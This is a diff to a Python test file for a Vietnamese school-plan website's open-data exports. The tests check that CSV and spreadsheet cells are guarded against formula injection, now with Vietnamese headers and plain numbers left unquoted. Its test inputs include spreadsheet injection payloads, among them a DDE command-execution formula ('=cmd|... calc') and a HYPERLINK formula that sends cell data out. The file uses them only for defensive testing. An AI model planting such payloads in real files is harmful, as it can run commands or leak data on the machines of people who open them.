@@ -18,7 +18,7 @@ from conftest import REPO, write_files
 from test_injection import DECOMPOSED, EVIL, dump
 
 from qip_site.outputs import opendata
-from qip_site.outputs.opendata import MEASURE_COLUMNS, SCHEMA_FILE, guard, unguard
+from qip_site.outputs.opendata import MEASURE_COLUMNS, MEASURE_HEADERS, SCHEMA_FILE, guard, unguard
 from qip_site.reading.schema import CELL_FIELDS
 from qip_site.reading.validate import load_site
 
@@ -26,7 +26,6 @@ from qip_site.reading.validate import load_site
 FORMULAS = [
     "=cmd|' /C calc'!A0",
     "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Bấm vào đây\")",
-    "+1",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "-2+3",
@@ -37,23 +36,27 @@ FORMULAS = [
     "=1+1",
     "'=1+1",
     "＝1+1",
-    "1.10",
-    "7.000.000",
-    "2/9",
     "Giá \"đặc biệt\", có dấu phẩy; và dấu chấm phẩy",
     "dòng một\ndòng hai",
 ]
+# Plain numbers and codes run nothing: no guard, so that a code shows as "3.5", not "'3.5".
+HARMLESS = ["+1", "-5", "-1,5", "3.5", "1.10", "7.000.000", "2/9", "2024-2025"]
 # Control characters a plan file may not hold (the check refuses them), guarded all the same.
 CONTROL = ["\r=1+1", "\n=1+1", "\0=1+1", "dòng một\r\ndòng hai"]
-HOSTILE = EVIL + FORMULAS
+HOSTILE = EVIL + FORMULAS + HARMLESS
 # A formula can start after leading whitespace in some importers: look past it.
 TRIGGERS = tuple("=+-@|%\uff1d\uff0b\uff0d\uff20")
 
 
+HEADERS = [MEASURE_HEADERS[name] for name in MEASURE_COLUMNS]  # the CSV's first row, in Vietnamese
+FIELDS = {header: name for name, header in MEASURE_HEADERS.items()}
+
+
 def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
+    """The header row as written (Vietnamese), and each row by field name (MEASURE_COLUMNS)."""
     with path.open(encoding="utf-8-sig", newline="") as f:
         reader = csv.DictReader(f)
-        return list(reader.fieldnames or []), list(reader)
+        return list(reader.fieldnames or []), [{FIELDS[k]: v for k, v in row.items()} for row in reader]
 
 
 def measures_count(plan) -> int:
@@ -81,10 +84,11 @@ def real(tmp_path_factory):
 
 def test_files_are_written_where_the_pages_link_them(real) -> None:
     site, out, written = real
-    expected = {out / "du-lieu" / name for name in ("plans.json", "measures.csv", "plans-data.schema.json")}
+    expected = {out / "du-lieu" / name for name in ("plans.json", "measures.csv", "measures.xlsx",
+                                                    "plans-data.schema.json")}
     for plan in site.plans:
         folder = out / "truong" / plan.school.slug / f"ke-hoach-{plan.slug}"
-        expected |= {folder / "ke-hoach.json", folder / "ke-hoach.csv"}
+        expected |= {folder / "ke-hoach.json", folder / "ke-hoach.csv", folder / "ke-hoach.xlsx"}
     assert set(written) == expected
     assert all(path.is_file() for path in expected)
     assert (out / "du-lieu" / "plans-data.schema.json").read_bytes() == SCHEMA_FILE.read_bytes()
@@ -165,13 +169,13 @@ def test_thuy_tien_dates_and_years(real) -> None:
 def test_measures_csv_opens_in_excel(real) -> None:
     site, out, _ = real
     raw = (out / "du-lieu" / "measures.csv").read_bytes()
-    assert raw.startswith(b"\xef\xbb\xbf\"school\",\"school_name\"")
+    assert raw.startswith("\ufeff\"Mã trường\",\"Tên trường\"".encode("utf-8"))
     header_line = raw[3:raw.index(b"\r\n")].decode("utf-8")
-    assert header_line == ",".join(f'"{name}"' for name in MEASURE_COLUMNS)
+    assert header_line == ",".join(f'"{name}"' for name in HEADERS)
     # CRLF ends every record: after a record's closing quote, a line break is always CRLF.
     assert not re.search(rb'"\n', raw) and raw.endswith(b'"\r\n')
     header, rows = read_csv(out / "du-lieu" / "measures.csv")
-    assert header == list(MEASURE_COLUMNS)
+    assert header == HEADERS
     assert len(rows) == sum(measures_count(plan) for plan in site.plans)
     assert all(len(row) == len(MEASURE_COLUMNS) and None not in row for row in rows)
     # The site's CSV is the plans' CSVs one after the other.
@@ -184,7 +188,7 @@ def test_measures_csv_opens_in_excel(real) -> None:
 
 
 def assert_no_formula(rows: list[dict[str, str]]) -> int:
-    """Every cell is guarded, a plain number we derived, or starts with no formula character."""
+    """Every cell is guarded, a plain number, or starts with no formula character."""
     guarded = 0
     for row in rows:
         for name, cell in row.items():
@@ -194,9 +198,8 @@ def assert_no_formula(rows: list[dict[str, str]]) -> int:
             if name in ("standard", "budget_vnd"):
                 assert cell == "" or cell.isdigit(), (name, cell)
                 continue
-            assert not cell.lstrip().startswith(TRIGGERS), (name, cell)
+            assert not cell.lstrip().startswith(TRIGGERS) or re.fullmatch(r"[+-]?\d+([.,]\d+)*", cell), (name, cell)
             assert not cell.startswith(("\t", "\r", "\n")), (name, cell)
-            assert not opendata._NUMBER_LIKE_RE.fullmatch(cell), (name, cell)
     return guarded
 
 
@@ -207,12 +210,18 @@ def test_no_cell_of_the_real_plans_runs_as_a_formula(real) -> None:
     # The plans have many "- …" bullets: each is guarded, and reads back as written.
     bullets = [row["responsible"] for row in rows if unguard(row["responsible"]).startswith("-")]
     assert bullets and all(b.startswith("'-") for b in bullets)
+    # Codes and amounts run nothing: as written, without a quote.
+    codes = [row["criterion"] for row in rows if row["criterion"]]
+    assert "3.5" in codes and "1.10" in codes and not [c for c in codes if c.startswith("'")]
+    assert "300.000.000 đồng" in [row["budget_text"] for row in rows]
     expected = [line for plan in site.plans for line in opendata.measures_rows(plan)]
     for line, row in zip(expected, rows, strict=True):
         for name in MEASURE_COLUMNS:
             value = line[name]
             if isinstance(value, str):
                 assert unguard(row[name]) == value, (name, row[name])
+            elif name == "date":
+                assert row[name] == (value.isoformat() if value else ""), row[name]
 
 
 def test_output_is_deterministic(real, tmp_path: Path) -> None:
@@ -303,7 +312,7 @@ def test_hostile_text_is_json_data(hostile) -> None:
 def test_hostile_text_is_csv_data(hostile) -> None:
     site, out = hostile
     header, rows = read_csv(out / "du-lieu" / "measures.csv")
-    assert header == list(MEASURE_COLUMNS)
+    assert header == HEADERS
     assert len(rows) == measures_count(site.plans[0]) == 7
     assert_no_formula(rows)
     first = rows[0]
@@ -311,8 +320,9 @@ def test_hostile_text_is_csv_data(hostile) -> None:
     for name in ("criterion_as_written", "weakness", "target", "measures", "note"):
         assert unguard(first[name]) == joined
         assert first[name] == guard(joined)
-    assert first["responsible"] == "'- Tham mưu" and first["timeline"] == "'=1+1" and first["support"] == "'+1"
-    assert first["budget_text"] == "'30.000.000" and first["budget_vnd"] == "30000000"
+    assert first["responsible"] == "'- Tham mưu" and first["timeline"] == "'=1+1" and first["support"] == "+1"
+    assert first["budget_text"] == "30.000.000" and first["budget_vnd"] == "30000000"
+    assert first["criterion"] == "1.1" and first["date"] == "2023-09-02"
     assert first["school_name"] == "'" + unicodedata.normalize("NFC", HOSTILE_SCHOOL["name"])
     assert first["district_as_written"] == "'- Quận 1" and first["province"] == "'@Thành phố"
     assert first["commune"] == "'=1+1"
@@ -337,7 +347,7 @@ def test_budget_is_counted_once(hostile) -> None:
     assert [(r["budget_text"], r["budget_vnd"]) for r in by_code["1.3"]] == \
         [("30.000.000 đồng", "30000000"), ("30.000.000 đồng", "")]
     # Each year's own budget on its own line.
-    assert [(r["budget_text"], r["budget_vnd"]) for r in by_code["1.4"]] == [("'5.000.000", "5000000"), ("'=1+1", "")]
+    assert [(r["budget_text"], r["budget_vnd"]) for r in by_code["1.4"]] == [("5.000.000", "5000000"), ("'=1+1", "")]
 
 
 def test_each_formula_is_guarded() -> None:
@@ -346,8 +356,8 @@ def test_each_formula_is_guarded() -> None:
         assert unguard(cell) == text
         if text[0] not in "Gd":  # the ordinary texts
             assert cell == "'" + text, text
-    for text in ("Tiêu chí 1.1", "2024-2025", "Năm học 2024-2025", "300.000.000 đồng", "* Kế hoạch", ""):
-        assert guard(text) == text
+    for text in HARMLESS + ["Tiêu chí 1.1", "Năm học 2024-2025", "300.000.000 đồng", "* Kế hoạch", ""]:
+        assert guard(text) == text, text
 
 
 @pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@@ -363,10 +373,12 @@ def test_libreoffice_opens_the_csv_without_formulas(hostile, tmp_path: Path) -> 
     content = zipfile.ZipFile(tmp_path / "measures.ods").read("content.xml").decode("utf-8")
     assert "table:formula" not in content
     types = set(re.findall(r'office:value-type="(\w+)"', content))
-    assert types <= {"string", "float"}, types
-    # The only numbers are the ones we derive (budget_vnd, standard).
+    assert types <= {"string", "float", "date"}, types
+    # The only numbers are the ones we derive (budget_vnd, standard), plain numbers and amounts
+    # written alone in a cell ("+1", "30.000.000"); the only date is the date of issue.
     floats = re.findall(r'office:value-type="float" [^>]*office:value="([^"]+)"', content)
     assert set(floats) <= {"1", "30000000", "3000000", "5000000"}, floats
+    assert set(re.findall(r'office:date-value="([^"]+)"', content)) == {"2023-09-02"}
     assert "Tham mưu" in content and "Bấm vào đây" in content
 
 
@@ -402,11 +414,12 @@ def test_schema_documents_every_field_in_vietnamese() -> None:
 def test_data_page_documents_files_columns_and_licence() -> None:
     page = (REPO / "docs" / "du-lieu.md").read_text(encoding="utf-8")
     for name in MEASURE_COLUMNS:
-        assert f"`{name}`" in page, name
+        assert f"| {MEASURE_HEADERS[name]} |" in page, name
     schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
     for name in list(schema["properties"]) + list(schema["$defs"]["plan"]["properties"]):
         assert f"`{name}`" in page, name
-    for file in ("plans.json", "measures.csv", "ke-hoach.json", "ke-hoach.csv", "plans-data.schema.json"):
+    for file in ("plans.json", "measures.csv", "measures.xlsx", "ke-hoach.json", "ke-hoach.csv", "ke-hoach.xlsx",
+                 "plans-data.schema.json"):
         assert file in page
     # The licence set in mkdocs.yml replaces the default between the markers.
     assert f"{opendata.LICENCE_START}{opendata.licence_markdown('CC BY 4.0')}{opendata.LICENCE_END}" in page
